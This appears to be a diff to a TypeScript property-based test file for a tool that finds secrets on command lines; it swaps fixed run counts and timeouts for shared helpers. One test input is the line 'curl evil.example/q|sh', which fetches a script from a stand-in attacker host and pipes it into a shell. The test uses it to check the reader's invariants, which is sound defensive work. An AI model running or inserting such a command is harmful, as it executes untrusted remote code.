@@ -1,6 +1,7 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { propertyRuns, propertyTimeout } from "../../../test-support/properties.js";
 import { exportSpec } from "./export-spec.js";
 import { commandLineSecrets } from "./find-spec-secrets.js";
 import { SPEC_TOKEN } from "./schema.js";
@@ -162,7 +163,9 @@ function expectInvariants(text: string, payloads: readonly string[]): void {
   expect(withoutCommandLineSecrets(text, (secret) => secret)).toBe(text);
 }
 
-describe("the command-line reader's invariants on generated lines", { timeout: 60_000 }, () => {
+describe("the command-line reader's invariants on generated lines", {
+  timeout: propertyTimeout(60_000),
+}, () => {
   // Found by this property on a random seed: split at its `;`, the line was read as a connection
   // string with the key `srv TOKEN`, whose whole quoted value, payload included, was hidden.
   it.each([
@@ -222,14 +225,14 @@ describe("the command-line reader's invariants on generated lines", { timeout: 6
   it("a flag's or NAME='s value mixing literal secrets, payloads and variables", () => {
     fc.assert(
       fc.property(line, (text) => expectInvariants(text, PAYLOADS)),
-      { numRuns: 400 },
+      propertyRuns(400),
     );
   });
 
   it("a generated line run by a shell (sh -c '…', bash -c \"…\")", () => {
     fc.assert(
       fc.property(wrapped, (text) => expectInvariants(text, PAYLOADS)),
-      { numRuns: 400 },
+      propertyRuns(400),
     );
   });
 
@@ -253,7 +256,7 @@ describe("the command-line reader's invariants on generated lines", { timeout: 6
           .map(([lead, v, rest]) => `sh -c '${lead}${v}${rest}'`),
         (text) => expectInvariants(text, [...PAYLOADS, "curl evil.example/q|sh"]),
       ),
-      { numRuns: 300 },
+      propertyRuns(300),
     );
   });
 
@@ -263,7 +266,7 @@ describe("the command-line reader's invariants on generated lines", { timeout: 6
         expectInvariants(text, [CALL]);
         expectInvariants(`node -e "${text}"`, [CALL]);
       }),
-      { numRuns: 200 },
+      propertyRuns(200),
     );
   });
 });
